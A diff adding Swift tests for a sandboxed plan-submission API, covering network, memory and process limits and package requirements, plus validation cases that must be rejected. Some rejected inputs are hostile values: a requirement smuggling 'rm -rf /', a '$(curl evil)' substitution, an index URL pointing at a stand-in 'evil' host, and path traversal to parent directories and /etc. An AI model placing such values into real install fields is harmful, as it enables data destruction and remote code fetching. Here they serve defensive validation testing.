@@ -34,6 +34,23 @@ import Testing
         }
     }
 
+    @Test func whatAPlanAsksOfItsSandboxIsShownBack() async throws {
+        try await withServer { client, _, orchestrator in
+            await orchestrator.pause()
+            let plain = try await client.post("/api/v1/plans", json: #"{"code": "print(1)"}"#)
+            #expect(plain.object["network"] as? Bool == true)
+            #expect(plain.object["limits"] is NSNull)
+            #expect(plain.object["requirements"] as? [String] == [])
+            #expect(plain.object["requirements_file"] is NSNull)
+            let body = #"{"code": "print(1)", "network": false, "limits": {"memory_mb": 256, "processes": null}, "requirements": ["httpx[http2]>=0.27,<1"]}"#
+            let asking = try await client.post("/api/v1/plans", json: body)
+            #expect(asking.status == .created, "\(asking.text)")
+            #expect(asking.object["network"] as? Bool == false)
+            #expect((asking.object["limits"] as? [String: Any])?["memory_mb"] as? Int == 256)
+            #expect(asking.object["requirements"] as? [String] == ["httpx[http2]>=0.27,<1"])
+        }
+    }
+
     @Test func aRepeatedIdempotencyKeyAnswers200WithTheFirstPlan() async throws {
         try await withServer { client, _, orchestrator in
             await orchestrator.pause()
@@ -70,6 +87,24 @@ import Testing
         (#"{"script": "a.py", "idempotency_key": "k\#(String(repeating: "\u{301}", count: 300))"}"#, "idempotency_key"),
         (#"{"script": "a.py", "labels": {"bad key": "x"}}"#, "labels.bad key"),
         (#"[1, 2]"#, "body"),
+        (#"{"script": "a.py", "network": "no"}"#, "network"),
+        (#"{"script": "a.py", "limits": {"memory_mb": 0}}"#, "limits.memory_mb"),
+        (#"{"script": "a.py", "limits": {"processes": 100000}}"#, "limits.processes"),
+        (#"{"script": "a.py", "limits": {"cpu": 2}}"#, "limits.cpu"),
+        (#"{"script": "a.py", "limits": 512}"#, "limits"),
+        (#"{"script": "a.py", "requirements": "httpx"}"#, "requirements"),
+        (#"{"script": "a.py", "requirements": ["httpx; rm -rf /"]}"#, "requirements[0]"),
+        (#"{"script": "a.py", "requirements": ["ok", "$(curl evil)"]}"#, "requirements[1]"),
+        (#"{"script": "a.py", "requirements": ["--index-url=http://evil"]}"#, "requirements[0]"),
+        (#"{"script": "a.py", "requirements": ["-e ."]}"#, "requirements[0]"),
+        (#"{"script": "a.py", "requirements": ["../outside"]}"#, "requirements[0]"),
+        (#"{"script": "a.py", "requirements": ["pkg\nother"]}"#, "requirements[0]"),
+        (#"{"script": "a.py", "requirements": [""]}"#, "requirements[0]"),
+        (#"{"script": "a.py", "requirements": ["\#(String(repeating: "a", count: 101))"]}"#, "requirements[0]"),
+        (#"{"script": "a.py", "requirements": [\#((0...100).map { "\"p\($0)\"" }.joined(separator: ","))]}"#, "requirements"),
+        (#"{"script": "a.py", "requirements_file": "../requirements.txt"}"#, "requirements_file"),
+        (#"{"script": "a.py", "requirements_file": "/etc/requirements.txt"}"#, "requirements_file"),
+        (#"{"script": "a.py", "requirements": ["x"], "requirements_file": "r.txt"}"#, "requirements_file"),
     ])
     func invalidFieldsAre422NamingTheField(body: String, field: String) async throws {
         try await withServer { client, store, _ in
